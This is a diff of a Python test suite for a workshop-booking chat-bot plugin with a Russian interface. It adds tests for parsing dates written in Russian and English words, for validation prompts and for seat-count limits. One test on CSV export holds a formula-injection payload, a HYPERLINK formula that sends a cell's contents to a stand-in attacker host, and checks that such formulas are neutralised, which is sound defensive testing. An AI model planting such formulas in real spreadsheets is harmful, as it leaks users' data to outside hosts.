@@ -16,6 +16,10 @@ from plugins.workshops.models import Workshop
 from ws_helpers import add_workshop, event, make_users, open_card, participant_member, start
 
 
+MONTHS_RU = ("января", "февраля", "марта", "апреля", "мая", "июня", "июля", "августа", "сентября", "октября",
+             "ноября", "декабря")
+
+
 async def workshops_count(app) -> int:
     async with app.sessions() as s:
         return await s.scalar(select(func.count()).select_from(Workshop))
@@ -40,25 +44,30 @@ async def test_create_dialog_explains_every_bad_answer_and_saves_only_on_confirm
     await olga.click("Пропустить")
     await olga.send("Ауд. 5")
     await olga.click("Пропустить")
-    await olga.expect(text="Дата и время начала")
+    await olga.expect(text="Когда начало? Дата и время по времени мероприятия")
     await olga.send("2020-01-01 10:00")
     await olga.expect(text="Это время уже прошло")
     await olga.send("завтра утром")
     await olga.expect(text="Не понял дату и время")
+    await olga.send("5 декабря")  # a day without a time is asked again, not taken as midnight
+    await olga.expect(text="Не понял дату и время")
     start_local = (utcnow() + dt.timedelta(days=5)).astimezone(service.tz_of(await event(app)))
-    await olga.send(f"{start_local:%Y-%m-%d} 10:00")
-    await olga.expect(text="Время окончания")
+    await olga.send(f"{start_local.day} {MONTHS_RU[start_local.month - 1]} 10:00")  # as people write it
+    await olga.expect(text="Когда окончание? Например")
     await olga.send("09:00")
     await olga.expect(text="Окончание должно быть позже начала")
     await olga.send("90")
-    await olga.expect(text="Сколько мест")
+    await olga.expect(text="Сколько мест? Целое число")
     await olga.send("0")
     await olga.expect(text="Мест должно быть от 1")
+    await olga.send("1000000000")
+    await olga.expect(text=re.compile(r"Мест должно быть от 1 до 100\s?000"))
     await olga.send("двадцать")
     await olga.expect(text="целое число")
     await olga.send("20")
     preview = await olga.expect(text="Проверьте")
     assert "Пайка <для начинающих>" in preview["text"] and "10:00–11:30" in preview["text"]
+    assert f"{start_local:%d.%m}" in preview["text"]  # the date read from words is confirmed back
     assert await workshops_count(app) == 0  # nothing half-saved while the dialog runs
     await olga.click("Сохранить")
     await olga.expect(text="Мастер-класс «Пайка <для начинающих>» создан")
@@ -92,7 +101,7 @@ async def test_capacity_below_bookings_is_refused_with_numbers_and_raise_is_appl
     await olga.expect(text="Записано: 2 из 2")
     await olga.click("Число мест")
     await olga.send("1")
-    await olga.expect(text="Нельзя сделать 1 мест: уже записано 2")
+    await olga.expect(text="Нельзя сделать 1 место: уже записано 2. Минимум — 2")
     await olga.send("5")
     await olga.expect(text="Мест теперь 5 (было 2)")
 
@@ -258,3 +267,30 @@ async def test_csv_export_neutralises_formulas_in_names(sandbox):
     [row] = [r for r in rows if r["username"] == "mallory"]
     assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("5 декабря 18:00", "2026-12-05 18:00"), ("5 декабря в 18:00", "2026-12-05 18:00"),
+    ("завтра в 10:00", "2026-12-02 10:00"), ("December 5 6pm", "2026-12-05 18:00"),
+    ("5 dec 18:30", "2026-12-05 18:30"), ("12.03 10:00", "2026-03-12 10:00"), ("2027-01-02 09:15", "2027-01-02 09:15"),
+    ("15 января 9:00", "2027-01-15 09:00"),  # a past month means next year's
+])
+def test_natural_dates_in_russian_and_english_are_read_in_the_event_timezone(text, expected):
+    tz = service.zoneinfo.ZoneInfo("Europe/Moscow")
+    now = dt.datetime(2026, 12, 1, 12, 0, tzinfo=dt.UTC)
+    got = service.parse_local_datetime(text, tz, now).astimezone(tz)
+    assert f"{got:%Y-%m-%d %H:%M}" == expected
+
+
+@pytest.mark.parametrize("text", ["5 декабря", "завтра", "когда-нибудь", "", "32 декабря 10:00"])
+def test_a_date_without_a_time_or_no_date_is_refused(text):
+    with pytest.raises(service.InputError):
+        service.parse_local_datetime(text, service.zoneinfo.ZoneInfo("Europe/Moscow"),
+                                     dt.datetime(2026, 12, 1, 12, 0, tzinfo=dt.UTC))
+
+
+def test_the_end_may_be_a_natural_date_counted_from_the_start():
+    tz = service.zoneinfo.ZoneInfo("Europe/Moscow")
+    starts = dt.datetime(2026, 12, 5, 7, 0, tzinfo=dt.UTC)  # 10:00 in Moscow
+    assert service.parse_end("5 декабря 18:00", starts, tz).astimezone(tz).hour == 18
+    assert service.parse_end("11:30", starts, tz) - starts == dt.timedelta(minutes=90)
